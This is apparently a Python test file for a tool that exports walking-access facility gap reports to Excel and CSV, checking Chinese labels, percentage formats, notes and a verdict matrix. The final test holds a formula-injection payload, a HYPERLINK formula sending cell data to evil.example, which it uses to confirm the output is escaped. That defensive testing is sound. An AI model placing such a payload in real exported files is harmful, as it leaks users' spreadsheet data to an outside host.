"""The gap report's files: XLSX opens on its notes; codes are words, shares percentages, and a
name that looks like a formula stays text in every file."""

from __future__ import annotations

import csv

import openpyxl

from lifecircle.engine.coverage import coverage_by_area, coverage_by_type, uncollected_types
from lifecircle.engine.gaps import top_missing
from lifecircle.engine.profiles import ELDERLY
from lifecircle.io.tables import GapReport, write_gap_report
from tests.engine.test_gaps import COLLECTED, TAX, compounds, rows

NOTICE = "演示：南京新街口真实 OSM 数据，非天津数据"


def report() -> GapReport:
    found = rows()
    return GapReport(
        rows=found,
        by_type=coverage_by_type(found),
        by_type_community=coverage_by_type(found, group_by="community"),
        coverage=coverage_by_area(found),
        coverage_by_subdistrict=coverage_by_area(found, group_by="subdistrict"),
        top_missing=top_missing(found),
        not_collected=uncollected_types(TAX, COLLECTED),
        circles={},
        profiles=[ELDERLY],
        data_date="2026-12-01T00:00:00Z",
        taxonomy=TAX,
        notice=NOTICE,
        complete_types=frozenset({"breakfast_shop"}),
    )


def _table(sheet):
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def test_the_xlsx_opens_on_its_label_and_says_how_coverage_is_counted(tmp_path):
    [path] = write_gap_report(report(), tmp_path / "gaps.xlsx", compounds=compounds())
    book = openpyxl.load_workbook(path)
    notes = book.worksheets[0]
    assert notes.title == "说明" and notes["A1"].value == NOTICE and notes["A1"].font.b
    text = "\n".join(str(c.value) for c in notes["A"])
    assert "未采集" in text and "按居民数加权" in text and "严格口径" in text
    assert book.properties.title == NOTICE
    assert book.sheetnames[1] == "按设施类型覆盖"


def test_per_type_rows_show_not_collected_as_blank_shares_and_say_what_is_declared(tmp_path):
    [path] = write_gap_report(report(), tmp_path / "gaps.xlsx", compounds=compounds())
    sheet = openpyxl.load_workbook(path)["按设施类型覆盖"]
    by_type = {r["设施类型"]: r for r in _table(sheet) if r["社区/街道"] == "全部小区"}
    health = by_type["社区卫生服务站"]
    assert (health["已采集"], health["居民覆盖率（按居民数加权）"]) == ("否", None)
    breakfast = by_type["早餐店"]
    assert (breakfast["已声明完整采集"], breakfast["居民覆盖率（按居民数加权）"]) == ("是", 0)
    assert by_type["幼儿园"]["服务内容"] == "教育"  # content areas by their Chinese name
    assert by_type["幼儿园"]["步行人群"] == "老年人"  # a profile is a who, not a code
    share_column = next(c for c in sheet[1] if c.value == "居民覆盖率（按居民数加权）").column
    assert sheet.cell(2, share_column).number_format == "0%"


def test_gap_rows_give_the_verdict_in_words(tmp_path):
    [path] = write_gap_report(report(), tmp_path / "gaps.xlsx", compounds=compounds())
    verdicts = {
        (r["小区编号"], r["设施类型代码"]): r["判定"]
        for r in _table(openpyxl.load_workbook(path)["缺口明细"])
    }
    assert verdicts[("c1", "community_health_station")] == "未采集"
    assert verdicts[("c1", "breakfast_shop")] == "缺"
    assert verdicts[("c1", "kindergarten")] == "可达"
    assert verdicts[("c1", "gym")] == "不可达（按需）"


def test_csv_writes_every_summary_and_the_notes_beside_the_rows(tmp_path):
    written = write_gap_report(report(), tmp_path / "gaps.csv", compounds=compounds())
    names = {p.name for p in written}
    assert {"gaps.csv", "gaps_by_type.csv", "gaps_not_collected.csv", "gaps_notes.txt"} <= names
    assert (tmp_path / "gaps_notes.txt").read_text(encoding="utf-8").startswith(NOTICE)
    with (tmp_path / "gaps.csv").open(encoding="utf-8-sig") as handle:
        first = next(csv.DictReader(handle))
    assert first["判定"] in ("可达", "缺", "不可达（按需）", "未采集")
    assert first["步行人群"] == "老年人" and first["服务内容"] in {a.name_zh for a in TAX.areas}
    with (tmp_path / "gaps_by_type.csv").open(encoding="utf-8-sig") as handle:
        header = next(csv.reader(handle))
    assert "设施类型" in header and "type_name" not in header


def test_english_only_when_asked(tmp_path):
    write_gap_report(report(), tmp_path / "gaps.csv", compounds=compounds(), lang="en")
    with (tmp_path / "gaps.csv").open(encoding="utf-8-sig") as handle:
        first = next(csv.DictReader(handle))
    assert first["Walking profile"] == "Older people" and first["Content area"] != "education"


def test_every_column_of_every_sheet_is_defined_in_the_notes(tmp_path):
    [path] = write_gap_report(report(), tmp_path / "gaps.xlsx", compounds=compounds())
    book = openpyxl.load_workbook(path)
    notes = {row[0].value: row[1].value for row in book["说明"].iter_rows() if row[1].value}
    for sheet in book.worksheets[1:]:
        if sheet.title.startswith("矩阵"):
            continue
        for cell in sheet[1]:
            assert notes.get(cell.value), f"{sheet.title}: {cell.value} is not defined"
    text = "\n".join(str(c.value) for c in book["说明"]["A"])
    assert "按老年人每分钟约 55 米计" in text and "m/s" not in text and "elderly" not in text


def test_shares_are_percentages_and_people_have_separators(tmp_path):
    [path] = write_gap_report(report(), tmp_path / "gaps.xlsx", compounds=compounds())
    book = openpyxl.load_workbook(path)
    for name in ("按设施类型覆盖", "社区覆盖率"):
        sheet = book[name]
        for cell in sheet[1]:
            formats = {
                c.number_format
                for (c,) in sheet.iter_rows(min_row=2, min_col=cell.column, max_col=cell.column)
            }
            if "覆盖率" in cell.value or "占比" in cell.value:
                assert formats == {"0%"}, (name, cell.value)
            if cell.value == "居民":
                assert formats == {"#,##0"}


def test_the_matrix_shows_minutes_by_verdict_and_not_collected_as_such(tmp_path):
    [path] = write_gap_report(report(), tmp_path / "gaps.xlsx", compounds=compounds())
    sheet = openpyxl.load_workbook(path)["矩阵（老年人）"]
    header = [c.value for c in sheet[3]]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=4)}
    column = {str(h).split("\n")[0]: k for k, h in enumerate(header)}
    assert "健身房" not in column  # △ types are not in the matrix of ▲ types
    kindergarten = rows["一号院"][column["幼儿园"]]
    assert kindergarten.value == 4 and kindergarten.fill.start_color.rgb.endswith("C6EFCE")
    late = rows["二号院"][column["幼儿园"]]  # 6.7 minutes to a ▲5 type
    assert late.value == 7 and late.fill.start_color.rgb.endswith("FFC7CE")
    assert rows["三号院"][column["药店"]].value == "无"
    unknown = rows["一号院"][column["社区卫生服务站"]]
    assert unknown.value == "未采集" and unknown.fill.start_color.rgb.endswith("EDEDED")


INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_a_formula_looking_name_is_text_in_the_xlsx_and_escaped_in_the_csv(tmp_path):
    from dataclasses import replace

    base = report()
    rows = [replace(r, compound_name=INJECTED) if r.compound_id == "c1" else r for r in base.rows]
    evil = replace(base, rows=rows)
    [path] = write_gap_report(evil, tmp_path / "gaps.xlsx", compounds=compounds())
    book = openpyxl.load_workbook(path)
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    found = [c for c in cells if c.value == INJECTED]
    assert found, "the name was not written"
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert not any(c.data_type == "f" for c in cells)
    written = write_gap_report(evil, tmp_path / "gaps.csv", compounds=compounds())
    hits = 0
    for path in (p for p in written if p.suffix == ".csv"):
        with path.open(encoding="utf-8-sig") as handle:
            for row in csv.reader(handle):
                assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row), path
                hits += sum(v == "'" + INJECTED for v in row)
    assert hits >= 2  # the rows and the matrix
